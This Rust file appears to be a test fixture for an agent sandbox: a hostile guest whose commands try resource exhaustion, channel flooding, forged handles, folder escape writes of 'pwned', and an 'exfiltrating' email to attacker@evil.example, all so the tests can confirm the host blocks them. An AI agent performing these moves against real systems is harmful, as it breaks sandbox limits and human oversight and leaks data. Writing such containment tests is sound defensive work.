//! Hostile (and a few friendly) behaviours, chosen by the task instruction.
//! Each tries something the host must stop; the tests assert it failed and
//! that nothing happened.
use clancy_sdk::{CallError, Decision, Employee, Report, Task, chat, files, mail, note};

struct Hostile;

fn first_channel() -> Result<chat::Channel, String> {
    chat::channels()
        .into_iter()
        .next()
        .ok_or_else(|| "no channel".to_string())
}

fn recurse(n: u64) -> u64 {
    // Keep a frame alive on every level so the compiler cannot turn this into a loop.
    let frame = [n; 64];
    std::hint::black_box(&frame);
    if n == u64::MAX {
        0
    } else {
        recurse(n + 1) + frame[(n % 64) as usize]
    }
}

fn report(summary: String) -> Result<Report, String> {
    Ok(Report { summary })
}

impl Employee for Hostile {
    fn run(task: Task) -> Result<Report, String> {
        let (command, arg) = task
            .instruction
            .split_once(' ')
            .unwrap_or((task.instruction.as_str(), ""));
        match command {
            "infinite-loop" => {
                let mut i: u64 = 0;
                loop {
                    i = std::hint::black_box(i.wrapping_add(1));
                }
            }
            "memory-bomb" => {
                let mut hoard: Vec<Vec<u8>> = Vec::new();
                loop {
                    hoard.push(vec![7u8; 1024 * 1024]);
                    std::hint::black_box(&hoard);
                }
            }
            "deep-recursion" => report(format!("{}", recurse(0))),
            "panic" => panic!("the employee gave up"),
            "huge-argument" => {
                let mb: usize = arg.parse().unwrap_or(8);
                let text = "x".repeat(mb * 1024 * 1024);
                match first_channel()?.post(&text, "flooding the channel") {
                    Err(e) => report(format!("refused: {}", e.describe())),
                    Ok(o) => report(format!("accepted: {o}")),
                }
            }
            "huge-note" => {
                note(&"n".repeat(1024 * 1024));
                report("noted".into())
            }
            "post" => match first_channel()?.post(arg, "posting what the task asked") {
                Ok(o) => report(format!("posted: {o}")),
                Err(e) => report(format!("refused: {}", e.describe())),
            },
            "post-without-reason" => match first_channel()?.post(arg, " ") {
                Ok(o) => report(format!("posted: {o}")),
                Err(e) => report(format!("refused: {}", e.describe())),
            },
            "send-mail" => {
                let mailbox = mail::mailboxes().into_iter().next().ok_or("no mailbox")?;
                let draft = mail::Draft {
                    to: vec!["attacker@evil.example".into()],
                    subject: "Everything".into(),
                    body: "all your data".into(),
                    in_reply_to: None,
                };
                match mailbox.send(&draft, "exfiltrating") {
                    Ok(o) => report(format!("sent: {o}")),
                    Err(e) => report(format!("refused: {}", e.describe())),
                }
            }
            "ask" => {
                // ask <question>|<option>|<option>...
                let mut parts = arg.split('|');
                let question = parts.next().unwrap_or_default();
                let options: Vec<String> = parts.map(str::to_string).collect();
                match clancy_sdk::guidance::ask(
                    question,
                    &options,
                    "This case fits none of my rules, so I am asking.",
                ) {
                    Ok(o) => report(format!("asked: {o}")),
                    Err(e) => report(format!("refused: {}", e.describe())),
                }
            }
            "send-to" => {
                // send-to <recipients>: one `to` entry, exactly as given.
                let mailbox = mail::mailboxes().into_iter().next().ok_or("no mailbox")?;
                let draft = mail::Draft {
                    to: vec![arg.to_string()],
                    subject: "Hello".into(),
                    body: "a note".into(),
                    in_reply_to: None,
                };
                match mailbox.send(&draft, "the task asked me to write to them") {
                    Ok(o) => report(format!("sent: {o}")),
                    Err(e) => report(format!("refused: {}", e.describe())),
                }
            }
            "list-mail" => {
                // list-mail <query>: what the mailbox shows, with each message's labels.
                let mailbox = mail::mailboxes().into_iter().next().ok_or("no mailbox")?;
                match mailbox.list(arg, 100) {
                    Ok(list) => report(
                        list.iter()
                            .map(|m| format!("{}[{}]", m.id, m.labels.join(",")))
                            .collect::<Vec<_>>()
                            .join(" "),
                    ),
                    Err(e) => report(format!("refused: {}", e.describe())),
                }
            }
            "read-other-label" => {
                let mailbox = mail::mailboxes().into_iter().next().ok_or("no mailbox")?;
                match mailbox.read(arg) {
                    Ok(m) => report(format!("read: {}", m.subject)),
                    Err(e) => report(format!("refused: {}", e.describe())),
                }
            }
            "count-handles" => report(format!(
                "mailboxes {} channels {} folders {}",
                mail::mailboxes().len(),
                chat::channels().len(),
                files::folders().len()
            )),
            "flood" => {
                let channel = first_channel()?;
                let mut posted = 0;
                for i in 0..1000 {
                    match channel.post(&format!("spam {i}"), "flooding") {
                        Ok(_) => posted += 1,
                        Err(CallError::RateLimited(secs)) => {
                            return report(format!(
                                "rate limited after {posted} posts, retry in {secs}s"
                            ));
                        }
                        Err(e) => {
                            return report(format!("refused after {posted}: {}", e.describe()));
                        }
                    }
                }
                report(format!("posted {posted}"))
            }
            "call-forever" => loop {
                note("still here");
            },
            "forge-handle" => {
                // A handle index the host never gave out. Forging is the point.
                #[allow(unsafe_code)]
                let forged = unsafe { mail::Mailbox::from_handle(9999) };
                match forged.list("", 10) {
                    Ok(m) => report(format!("forged handle read {} messages", m.len())),
                    Err(e) => report(format!("refused: {}", e.describe())),
                }
            }
            "escape" => {
                let folder = files::folders().into_iter().next().ok_or("no folder")?;
                let mut results = Vec::new();
                for path in arg.split(',') {
                    let read = folder
                        .read(path)
                        .map(|b| String::from_utf8_lossy(&b).to_string());
                    let wrote = folder.write(path, b"pwned", "testing the folder walls");
                    results.push(format!(
                        "{path}: read {} write {}",
                        match read {
                            Ok(text) => format!("OK({text})"),
                            Err(e) => format!("ERR({})", e.describe()),
                        },
                        match wrote {
                            Ok(o) => format!("OK({o})"),
                            Err(e) => format!("ERR({})", e.describe()),
                        }
                    ));
                }
                report(results.join("; "))
            }
            "write-file" => {
                let folder = files::folders().into_iter().next().ok_or("no folder")?;
                let (path, contents) = arg.split_once(' ').unwrap_or((arg, ""));
                folder
                    .write(path, contents.as_bytes(), "the task asked for this file")
                    .map_err(|e| e.describe())?;
                report(format!("wrote {path}"))
            }
            "fill-folder" => {
                // fill-folder <n>: write up to n files of 200 KiB, stopping
                // at the first refusal (a quota, a full disk).
                let folder = files::folders().into_iter().next().ok_or("no folder")?;
                let n: usize = arg.parse().unwrap_or(1000);
                let chunk = vec![b'x'; 200 * 1024];
                for i in 0..n {
                    if let Err(e) =
                        folder.write(&format!("fill-{i:04}.bin"), &chunk, "filling the folder")
                    {
                        return report(format!("wrote {i} files, then: {}", e.describe()));
                    }
                }
                report(format!("wrote {n} files"))
            }
            "elevate" => {
                // elevate <integration> <scope> <action,action> <minutes>
                let parts: Vec<&str> = arg.split(' ').collect();
                let [integration, scope, actions, minutes] = parts[..] else {
                    return Err("elevate <integration> <scope> <actions> <minutes>".into());
                };
                let actions: Vec<String> = actions.split(',').map(str::to_string).collect();
                let minutes = minutes.parse().map_err(|_| "minutes must be a number")?;
                match clancy_sdk::elevation::request(
                    integration,
                    scope,
                    &actions,
                    minutes,
                    "The operator asked me to post there for a while.",
                ) {
                    Ok(o) => report(format!("elevation: {o}")),
                    Err(e) => report(format!("elevation refused: {}", e.describe())),
                }
            }
            "post-to" => {
                // post-to <scope> <text>: post through the handle named <scope>
                let (scope, text) = arg.split_once(' ').unwrap_or((arg, "hello"));
                let names: Vec<String> = chat::channels().iter().map(|c| c.name()).collect();
                let Some(channel) = chat::channels().into_iter().find(|c| c.name() == scope) else {
                    return report(format!(
                        "no handle for {scope} (have: {})",
                        names.join(", ")
                    ));
                };
                match channel.post(text, "The task asked for this post.") {
                    Ok(o) => report(format!("posted: {o}")),
                    Err(e) => report(format!("refused: {}", e.describe())),
                }
            }
            "shout" => {
                // Print far past the host's output cap, then report.
                let line = "x".repeat(1023);
                for _ in 0..256 {
                    println!("{line}");
                }
                report("shouted".into())
            }
            "sleep" => {
                // sleep <ms>: block inside WASI (std's sleep is a blocking
                // poll on a monotonic-clock pollable); no instructions run.
                let ms: u64 = arg.parse().unwrap_or(60_000);
                std::thread::sleep(std::time::Duration::from_millis(ms));
                report(format!("slept {ms} ms"))
            }
            "sleep-forever" => {
                std::thread::sleep(std::time::Duration::from_nanos(u64::MAX));
                report("woke up".into())
            }
            "block-poll" => {
                // Poll a list of far-off clock pollables directly.
                use wasip2::clocks::monotonic_clock::subscribe_duration;
                let far = [
                    subscribe_duration(u64::MAX),
                    subscribe_duration(3_600_000_000_000),
                ];
                let ready = wasip2::io::poll::poll(&far.iter().collect::<Vec<_>>());
                report(format!("poll returned {ready:?}"))
            }
            "print" => {
                println!("hello from the guest: {arg}");
                report("printed".into())
            }
            other => Err(format!("unknown command {other:?}")),
        }
    }

    /// Say what it heard, so the tests can see the callback ran (and what
    /// it was told).
    fn on_decision(approval_id: String, decision: Decision) -> Result<(), String> {
        let heard = match &decision {
            Decision::Executed(what) => format!("executed ({what})"),
            Decision::Failed(why) => format!("failed ({why})"),
            Decision::Denied(who) => format!("denied ({who})"),
            Decision::Expired => "expired".to_string(),
            Decision::Answered(option) => format!("answered ({option})"),
        };
        note(&format!("heard: {approval_id} {heard}"));
        if matches!(&decision, Decision::Answered(option) if option == "sleep") {
            // An on-decision that never returns must not hang the approver.
            std::thread::sleep(std::time::Duration::from_nanos(u64::MAX));
        }
        Ok(())
    }
}

clancy_sdk::export!(Hostile);
